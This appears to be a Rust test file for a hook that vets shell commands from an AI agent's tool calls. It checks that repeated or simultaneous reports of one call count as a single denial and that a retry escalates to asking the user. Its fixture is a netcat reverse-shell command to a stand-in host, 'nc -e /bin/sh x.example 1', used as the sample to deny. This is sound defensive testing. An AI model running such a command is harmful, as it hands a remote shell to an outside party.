//! One call that two hooks report: the same answer to both, counted once.

use serde_json::{Value as Json, json};

use crate::common::Place;

fn verdicts(place: &Place, calls: &[(&str, &str)]) -> Vec<String> {
    let ask = |(command, id): &(&str, &str)| {
        let mut event = place.shell(command);
        event["tool_use_id"] = json!(id);
        place.hook(event.to_string().as_bytes()).verdict()
    };
    calls.iter().map(ask).collect()
}

fn denials(place: &Place) -> Json {
    let folder = std::fs::read_dir(place.path("state").join("sessions")).unwrap();
    let file =
        folder.flatten().map(|e| e.path()).find(|p| p.extension().is_some_and(|e| e == "json")).unwrap();
    let state: Json = serde_json::from_slice(&std::fs::read(file).unwrap()).unwrap();
    state["memory"]["denials"].clone()
}

/// Refused, and not of the tiers that stay refused whatever is asked.
const REFUSED: &str = "nc -e /bin/sh x.example 1";

#[test]
fn the_second_report_of_a_call_is_no_retry() {
    let place = Place::new();
    let all = verdicts(&place, &[(REFUSED, "t-1"), (REFUSED, "t-1")]);
    assert_eq!((all, denials(&place)), (vec!["deny".to_owned(); 2], json!([1, 1])));
    // A retry is put to the user, and both reports of it are.
    let all = verdicts(&place, &[(REFUSED, "t-2"), (REFUSED, "t-2")]);
    assert_eq!(all, ["ask", "ask"]);
    // Once.
    assert_eq!(verdicts(&place, &[(REFUSED, "t-3"), (REFUSED, "t-4")]), ["deny", "deny"]);
}

#[test]
fn reports_at_the_same_moment_count_once() {
    let place = Place::new();
    let all: Vec<String> = std::thread::scope(|scope| {
        let one = || scope.spawn(|| verdicts(&place, &[(REFUSED, "t-1")]).remove(0));
        [one(), one(), one()].map(|thread| thread.join().unwrap()).into()
    });
    assert_eq!((all, denials(&place)), (vec!["deny".to_owned(); 3], json!([1, 1])));
}
